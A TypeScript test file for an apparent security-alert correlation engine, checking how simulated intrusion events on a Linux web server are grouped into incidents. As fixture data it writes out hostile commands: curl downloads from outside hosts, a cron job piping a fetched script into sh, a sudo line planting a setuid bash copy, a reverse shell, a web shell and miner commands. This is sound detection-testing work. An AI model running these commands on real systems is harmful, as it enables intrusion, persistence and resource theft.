import { afterEach, describe, expect, it } from 'vitest';
import { alertOf, closeIncidents, openIncidents, together } from '../../../test/incidents.ts';
import { Machine } from '../../../test/machine.ts';
import { triad } from '../../behaviours/triad/behaviour.ts';
import { Event } from '../../core/gen/event.ts';

afterEach(closeIncidents);

const begin = () => {
  const m = new Machine(triad);
  return { m, ...openIncidents({ lineage: m.graph, now: () => m.clock }) };
};
const line = (m: Machine, kind: 'sshd' | 'nginx' | 'cron', fields: Partial<Event>): Event => Object.assign(new Event(`line ${m.clock} ${JSON.stringify(fields)}`, m.clock, kind), { host: 'web1', service: kind, ...fields });

/** The event of a process that was told a moment ago: it looks at its own files. */
const spawned = (m: Machine, pid: number): Event => m.tell('process_creation', pid, { action: 'process-start', process_path: m.node(pid).path, process_cmdline: m.node(pid).cmdline });

describe('one story', () => {
  it('is the log-on, what its session ran, and what the session left behind for cron', () => {
    const { m, store, take } = begin();
    const guess = alertOf('guess', line(m, 'sshd', { source_ip: '203.0.113.9', user: 'root' }), { level: 'medium', attack: ['T1110.001'] });
    const shell = m.login('root', '203.0.113.9');
    const curl = m.spawn(shell, '/usr/bin/curl', 'curl -o /opt/.x/logd http://198.51.100.7/logd');
    const wrote = m.file(curl, 'create', '/opt/.x/logd');
    take([guess, alertOf('download', wrote, { attack: ['T1105'] })]);
    m.end(shell);
    m.later(3 * 86_400_000);
    // Nothing above it is the session any more: its file is.
    const run = m.cron('/opt/.x/logd');
    const miner = m.fork(run);
    take([alertOf('mine', m.exec(miner, '/opt/.x/logd'), { attack: ['T1496.001'] })]);
    take([alertOf('seen', m.tell('finding', undefined, { file_path: '/opt/.x/logd' }), { attack: [], rule: 'check.cron' })]);
    expect(together(store)).toBe('download guess mine seen');
  });

  it('is a file that was written here and the line of cron’s log that says it was run; what is run by everybody is none', () => {
    const { m, store, take } = begin();
    const shell = m.login('root', '203.0.113.9');
    const curl = m.spawn(shell, '/usr/bin/curl', 'curl -o /opt/.x/logd http://198.51.100.7/logd');
    take([alertOf('download', m.file(curl, 'create', '/opt/.x/logd'), { attack: ['T1105'] })]);
    const job = (cmdline: string): Event => line(m, 'cron', { action: 'cron-run', user: 'root', process_cmdline: cmdline });
    take([alertOf('job', job('/opt/.x/logd -q'), { attack: ['T1053.003'] })]);
    take([alertOf('other', job('/usr/bin/curl -o /tmp/a http://192.0.2.7/a'), { attack: ['T1053.003'] })]);
    take([alertOf('third', job('/usr/bin/curl -o /tmp/b http://192.0.2.8/b'), { attack: ['T1053.003'] })]);
    expect(together(store)).toBe('download job | other | third');
  });

  it('is a planted unit that comes back, and its file', () => {
    const { m, store, take } = begin();
    const first = m.service('/opt/netd', '/opt/netd', { unit: 'netd' });
    take([alertOf('a', m.connect(first), { attack: ['T1571'] })]);
    const again = m.service('/opt/netd', '/opt/netd', { unit: 'netd' });
    take([alertOf('b', m.ask(again, 'pool.example.net'), { attack: ['T1496.001'] }), alertOf('c', m.tell('finding', undefined, { file_path: '/etc/systemd/system/netd.service' }), { attack: [], rule: 'check.systemd' })]);
    expect(together(store)).toBe('a b c');
  });

  it('is a web shell: its upload, the requests for it, what it runs in its folder, and what sudo ran below that', () => {
    const { m, store, take } = begin();
    const worker = m.worker();
    take([alertOf('upload', m.rename(worker, '/tmp/php1', '/var/www/html/up/logo.php'), { attack: ['T1505.003'] })]);
    take([alertOf('asked', line(m, 'nginx', { source_ip: '203.0.113.9', url_path: '/up/l%6fgo.php' }), { attack: ['T1505.003'] })]);
    const runs = (id: string, folder: string): number => {
      const shell = m.spawn(worker, '/usr/bin/dash', 'sh -c id', { process_cwd: folder, user: 'www-data' });
      take([alertOf(id, spawned(m, shell), { attack: ['T1059.004'] })]);
      return shell;
    };
    const shell = runs('command', '/var/www/html/up');
    // Another page's own work, and a page of the name that every site has.
    runs('other', '/var/www/html/shop');
    take([alertOf('front', line(m, 'nginx', { source_ip: '203.0.113.80', url_path: '/up/index.php' }), { attack: ['T1505.003'] })]);
    m.spawn(shell, '/usr/bin/sudo', 'sudo install -m 4755 /bin/bash /usr/local/bin/.b', { uid: 33, user: 'www-data' });
    const sudo = (id: string, user: string, command: string): void => { take([alertOf(id, line(m, 'sshd', { kind: 'sudo', service: 'sudo', user, process_cmdline: command }), { attack: ['T1548.003'] })]); };
    sudo('sudo', 'www-data', '/usr/bin/install -m 4755 /bin/bash /usr/local/bin/.b');
    sudo('another', 'www-data', '/usr/bin/id');
    sudo('someone', 'deploy', '/usr/bin/install -m 4755 /bin/bash /usr/local/bin/.b');
    expect(together(store)).toBe('another | asked command sudo upload | front | other | someone');
  });

  it('is what a server ran of which nothing was known before', () => {
    const { m, store, take } = begin();
    const master = m.seen('/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service' });
    // A worker that only its child tells of.
    const shell = m.fork(master + 100, { parent_path: '/usr/sbin/php-fpm8.2', parent_cmdline: 'php-fpm: pool www' });
    const told = m.exec(shell, '/usr/bin/dash', 'sh -c id');
    take([alertOf('a', told, { attack: ['T1059.004'] }), alertOf('b', told, { attack: ['T1033'] })]);
    expect(together(store)).toBe('a b');
  });

  it('is an open Redis: the master it was told to follow, what it then wrote, and the job that fetches from there', () => {
    const { m, store, take } = begin();
    const redis = m.daemon('redis-server', '/usr/bin/redis-check-rdb', '/usr/bin/redis-server 0.0.0.0:6379');
    take([alertOf('told', Object.assign(line(m, 'nginx', { source_ip: '203.0.113.9', destination_ip: '198.51.100.7', destination_port: 6400 }), { kind: 'database', service: 'redis' }), { attack: ['T1190'] })]);
    m.connect(redis, '198.51.100.7', 6400);
    take([alertOf('table', m.file(redis, 'create', '/etc/cron.d/temp-1.rdb'), { attack: ['T1053.003'] })]);
    const job = m.cron('curl http://198.51.100.7/x.sh | sh');
    take([alertOf('job', spawned(m, job), { attack: ['T1105'] })]);
    // Fetched by its number from elsewhere, and from a machine of one's own network.
    for (const [id, ip] of [['far', '198.51.100.8'], ['near', '10.0.0.8'], ['near2', '10.0.0.8']] as const) take([alertOf(id, spawned(m, m.cron(`curl http://${ip}/x.sh`)), { attack: ['T1105'] })]);
    expect(together(store)).toBe('far | job table told | near | near2');
  });

  it('is a log-on from where a reverse shell goes', () => {
    const { m, store, take } = begin();
    const shell = m.spawn(m.worker(), '/bin/sh', 'sh -i');
    take([alertOf('reverse', m.connect(shell, '203.0.113.77', 4444), { attack: ['T1059.004', 'T1095'] })]);
    take([alertOf('logon', line(m, 'sshd', { source_ip: '203.0.113.77', user: 'root', action: 'login' }), { attack: ['T1078'] })]);
    expect(together(store)).toBe('logon reverse');
  });
});

describe('two stories', () => {
  it('are what a web server ran for two visitors', () => {
    const { m, store, take } = begin();
    const master = m.worker();
    const one = m.spawn(master, '/bin/sh', 'sh -c id'), two = m.spawn(master, '/bin/sh', 'sh -c uname');
    take([alertOf('a', spawned(m, one), { attack: ['T1059.004'] }), alertOf('b', spawned(m, two), { attack: ['T1059.004'] })]);
    const child = m.spawn(one, '/usr/bin/whoami');
    take([alertOf('c', spawned(m, child), { attack: ['T1033'] })]);
    // Of the worker itself nothing says whose it is.
    take([alertOf('d', m.file(master, 'create', '/var/www/html/a.php'), { attack: ['T1505.003'] })]);
    expect(together(store)).toBe('a c | b | d');
  });

  it('become one when the request that began them comes to light, with the attempts of that visitor', () => {
    const { m, store, forming, take } = begin();
    const attack = line(m, 'nginx', { source_ip: '203.0.113.66', url_path: '/x.php' });
    take([alertOf('try', attack, { level: 'medium', attack: ['T1190'] })]);
    const shell = m.spawn(m.worker(), '/bin/sh', 'sh -c id');
    take([alertOf('shell', spawned(m, shell), { attack: ['T1059.004'] })]);
    expect(together(store)).toBe('shell | try');
    m.end(shell);
    m.graph.observe(line(m, 'nginx', { source_ip: '203.0.113.66', url_path: '/x.php' }));
    m.wait(10_000);
    forming.again();
    expect(together(store)).toBe('shell try');
  });

  it('are two people who log on as root, and two who run programs of the system', () => {
    const { m, store, take } = begin();
    const one = m.login('root', '203.0.113.1'), two = m.login('root', '198.51.100.8');
    take([alertOf('a', spawned(m, m.spawn(one, '/usr/bin/nc')), { attack: ['T1095'] }), alertOf('b', spawned(m, m.spawn(two, '/usr/bin/nc')), { attack: ['T1095'] })]);
    take([alertOf('c', m.file(one, 'write', '/etc/crontab'), { attack: ['T1053.003'] })]);
    m.later(3_600_000);
    take([alertOf('d', m.file(two, 'write', '/etc/crontab'), { attack: ['T1053.003'] })]);
    expect(together(store)).toBe('a c | b d');
  });

  it('are two miners of one pool, but not two of one wallet', () => {
    const { m, store, take } = begin();
    const wallet = `4${'A1b2C3d4E5'.repeat(9)}Zz12`;
    const mine = (id: string, tail: string) => alertOf(id, m.ask(m.spawn(m.login('root', `203.0.113.${id.charCodeAt(0)}`), '/usr/bin/xm', `xm ${tail}`), 'pool.example.net'), { attack: ['T1496.001'] });
    take([mine('a', ''), mine('b', ''), mine('c', `-u ${wallet}`), mine('d', `-u ${wallet}`)]);
    expect(together(store)).toBe('a | b | c d');
  });
});

it('an account of a person ties within an hour, root and services never', () => {
  const { m, store, take } = begin();
  const logon = (id: string, user: string) => alertOf(id, line(m, 'sshd', { source_ip: '10.0.0.8', user, action: 'login' }), { attack: ['T1078'] });
  const first = [logon('a', 'liwei'), logon('r', 'root')];
  m.later(30 * 60_000);
  take([...first, logon('b', 'liwei'), logon('s', 'root')]);
  m.later(90 * 60_000);
  take([alertOf('c', Object.assign(line(m, 'sshd', { source_ip: '203.0.113.3', user: 'liwei' })), { attack: ['T1078'] })]);
  expect(together(store)).toBe('a b | c | r | s');
});
